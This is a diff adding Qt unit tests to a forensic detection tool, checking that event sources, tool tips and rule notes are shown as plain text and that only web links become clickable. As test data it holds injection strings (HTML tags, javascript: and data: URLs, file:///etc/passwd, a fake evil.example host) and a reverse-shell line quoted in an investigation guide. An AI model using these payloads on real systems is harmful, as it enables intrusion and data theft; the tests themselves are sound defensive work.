@@ -4,19 +4,26 @@
 #include "models/event_table_model.h"
 #include "models/findings_model.h"
 #include "models/process_tree_model.h"
+#include "plain_tool_tip.h"
 #include "review_state.h"
 #include "rules/builtin_rules.h"
 #include "sample_case.h"
 #include "scan/rule_runner.h"
 #include "store/case_file.h"
 #include "store/statement.h"
+#include "web_links.h"
+#include "widgets/event_detail_view.h"
 #include "widgets/finding_detail_view.h"
 
 #include <QAbstractItemModelTester>
+#include <QLabel>
 #include <QSignalSpy>
 #include <QTemporaryDir>
 #include <QTest>
+#include <QTextBlock>
 #include <QTextBrowser>
+#include <QTextDocument>
+#include <QUrl>
 #include <functional>
 #include <memory>
 
@@ -51,6 +58,29 @@ bool loadEvents(EventTableModel& model, std::shared_ptr<CaseFile> caseFile)
 {
     model.setCase(std::move(caseFile));
     return QTest::qWaitFor([&model] { return !model.isLoading(); }, 30000) && model.rowCount() > 0;
+}
+
+// Returns a copy of the built-in XZ rule with the given references and Markdown note, as a newer version so
+// that it runs as a rule of its own.
+spoor::rules::Rule ruleWithNote(const std::string& references, const std::string& note)
+{
+    spoor::rules::Rule rule = spoor::rules::builtinRules().front();
+    std::string& toml = rule.tomlText;
+    const std::size_t start = toml.find("references =");
+    toml.replace(start, toml.find('\n', start) - start, "references = " + references);
+    toml.insert(toml.find("[rule]\n") + 7, "note = '''" + note + "'''\n");
+    rule.updatedDate = "2024/05/01";
+    return rule;
+}
+
+// Returns the first block of the document whose text is text, or an invalid block.
+QTextBlock blockWithText(const QTextDocument& document, const QString& text)
+{
+    for (QTextBlock block = document.begin(); block.isValid(); block = block.next()) {
+        if (block.text() == text)
+            return block;
+    }
+    return {};
 }
 
 } // namespace
@@ -531,6 +561,133 @@ private slots:
 
         view.setFinding(caseFile.db(), 999999);
         QVERIFY(view.browser()->toPlainText().contains(QLatin1String("not in the case")));
+    }
+
+    void eventDetailShowsSourceAsText()
+    {
+        SPOOR_REQUIRE_SAMPLE(dump);
+        QTemporaryDir dir;
+        const QString path = dir.filePath(QStringLiteral("source.spoor"));
+        importSample(dump, path);
+        auto caseFile = CaseFile::open(path.toStdString());
+        const QString name = QStringLiteral("dump<h1><font color=red>INJECTED<a href=https:evil.example>x.ndjson");
+        auto update = caseFile.db().prepare("UPDATE sources SET path = ?");
+        update.bind(1, QString(QStringLiteral("/evidence/") + name).toStdString());
+        update.step();
+
+        spoor::ui::EventDetailView view;
+        view.setEvent(caseFile.db(), scalar(caseFile, "SELECT min(id) FROM events"));
+        const auto* source = view.findChild<QLabel*>(QStringLiteral("eventSource"));
+        QVERIFY(source);
+        QCOMPARE(source->textFormat(), Qt::PlainText);
+        QVERIFY2(source->text().startsWith(name + QLatin1String(", line ")), qPrintable(source->text()));
+        // The tool tip is rich text that shows the path literally.
+        QTextDocument toolTip;
+        toolTip.setHtml(source->toolTip());
+        QCOMPARE(toolTip.toPlainText(), QStringLiteral("/evidence/") + name);
+    }
+
+    void plainToolTipShowsTags()
+    {
+        const QString text = QStringLiteral("sh -c 'cat <b>x</b> &amp; <img src=/etc/passwd>'\nsecond  line");
+        const QString toolTip = spoor::ui::plainToolTip(text);
+        // QToolTip decides with Qt::mightBeRichText, and only rich text is read as HTML.
+        QVERIFY(Qt::mightBeRichText(toolTip));
+        QTextDocument document;
+        document.setHtml(toolTip);
+        QCOMPARE(document.toPlainText(), text);
+        QVERIFY(spoor::ui::plainToolTip(QString()).isEmpty());
+    }
+
+    void findingDetailLinksOnlyWebReferences()
+    {
+        SPOOR_REQUIRE_SAMPLE(dump);
+        QTemporaryDir dir;
+        const QString path = dir.filePath(QStringLiteral("links.spoor"));
+        importSample(dump, path);
+        auto caseFile = CaseFile::open(path.toStdString());
+        const auto rule =
+            ruleWithNote(R"x(["javascript:alert(1)", "data:text/html,<script>alert(2)</script>", )x"
+                         R"x("https://example.org/a?b=1", "file:///etc/passwd"])x",
+                         "## Triage\n\n[run](javascript:alert(3)) and [read](https://example.org/guide)\n");
+        const auto runs = spoor::scan::runRules(caseFile, {rule});
+        QCOMPARE(runs.size(), std::size_t(1));
+        QVERIFY(!runs.front().findingIds.empty());
+
+        spoor::ui::FindingDetailView view;
+        view.setFinding(caseFile.db(), runs.front().findingIds.front());
+        QTextBrowser* browser = view.browser();
+        QVERIFY(!browser->openExternalLinks());
+        QVERIFY(!browser->openLinks());
+        QStringList anchors;
+        for (QTextBlock block = browser->document()->begin(); block.isValid(); block = block.next()) {
+            for (auto fragment = block.begin(); !fragment.atEnd(); ++fragment) {
+                if (fragment.fragment().charFormat().isAnchor())
+                    anchors.append(fragment.fragment().charFormat().anchorHref());
+            }
+        }
+        const QString list = anchors.join(QLatin1Char(' '));
+        QVERIFY2(anchors.contains(QStringLiteral("https://example.org/a?b=1")), qPrintable(list));
+        QVERIFY2(anchors.contains(QStringLiteral("https://example.org/guide")), qPrintable(list));
+        QVERIFY2(anchors.contains(QStringLiteral("https://attack.mitre.org/techniques/T1021/004/")), qPrintable(list));
+        for (const QString& anchor : anchors)
+            QVERIFY2(anchor.startsWith(QLatin1String("https://")), qPrintable(anchor));
+        // The references that are not web links are still listed, as text.
+        const QString text = browser->toPlainText();
+        QVERIFY2(text.contains(QLatin1String("javascript:alert(1)")), qPrintable(text));
+        QVERIFY(text.contains(QLatin1String("data:text/html,<script>alert(2)</script>")));
+        QVERIFY(text.contains(QLatin1String("file:///etc/passwd")));
+        QVERIFY(text.contains(QLatin1String("run and read")));
+
+        QVERIFY(spoor::ui::isWebLink(QUrl(QStringLiteral("https://example.org/"))));
+        QVERIFY(spoor::ui::isWebLink(QUrl(QStringLiteral("HTTP://example.org/"))));
+        QVERIFY(spoor::ui::isWebLink(QUrl(QStringLiteral("mailto:soc@example.org"))));
+        QVERIFY(!spoor::ui::isWebLink(QUrl(QStringLiteral("javascript:alert(1)"))));
+        QVERIFY(!spoor::ui::isWebLink(QUrl(QStringLiteral("data:text/html,x"))));
+        QVERIFY(!spoor::ui::isWebLink(QUrl(QStringLiteral("file:///etc/passwd"))));
+        QVERIFY(!spoor::ui::isWebLink(QUrl(QStringLiteral("https:evil.example"))));
+    }
+
+    void findingDetailGuideKeepsTags()
+    {
+        SPOOR_REQUIRE_SAMPLE(dump);
+        QTemporaryDir dir;
+        const QString path = dir.filePath(QStringLiteral("guide.spoor"));
+        importSample(dump, path);
+        auto caseFile = CaseFile::open(path.toStdString());
+        const auto rule = ruleWithNote(R"(["https://example.org/"])",
+                                       "## Triage and analysis\n\n"
+                                       "- Escalate on a reverse shell (bash -i >& /dev/tcp/<IP>/<port>).\n"
+                                       "- <script>alert(6)</script> then <b>bold</b>\n\n"
+                                       "### Response\n\nIsolate the host.\n");
+        const auto runs = spoor::scan::runRules(caseFile, {rule});
+        QCOMPARE(runs.size(), std::size_t(1));
+        QVERIFY(!runs.front().findingIds.empty());
+
+        spoor::ui::FindingDetailView view;
+        view.setFinding(caseFile.db(), runs.front().findingIds.front());
+        const QTextDocument& document = *view.browser()->document();
+        const QString text = document.toPlainText();
+        QVERIFY2(text.contains(QLatin1String("bash -i >& /dev/tcp/<IP>/<port>")), qPrintable(text));
+        QVERIFY(text.contains(QLatin1String("<script>alert(6)</script> then <b>bold</b>")));
+        QVERIFY(text.contains(QLatin1String("Isolate the host.")));
+
+        // The guide's heading and the note's first heading are blocks of their own, outside the ATT&CK list.
+        const QTextBlock guide = blockWithText(document, QStringLiteral("Investigation guide"));
+        QVERIFY2(guide.isValid(), qPrintable(text));
+        QVERIFY(!guide.textList());
+        QCOMPARE(guide.blockFormat().headingLevel(), 4);
+        const QTextBlock triage = blockWithText(document, QStringLiteral("Triage and analysis"));
+        QVERIFY(triage.isValid());
+        QVERIFY(!triage.textList());
+        QCOMPARE(triage.blockFormat().headingLevel(), 2);
+        QCOMPARE(triage.previous(), guide);
+        const QTextBlock references = blockWithText(document, QStringLiteral("References"));
+        QVERIFY(references.isValid());
+        QVERIFY(!references.textList());
+        // No list item is empty, as a stray bullet would be.
+        for (QTextBlock block = document.begin(); block.isValid(); block = block.next())
+            QVERIFY2(!block.textList() || !block.text().isEmpty(), qPrintable(block.previous().text()));
     }
 
 private:
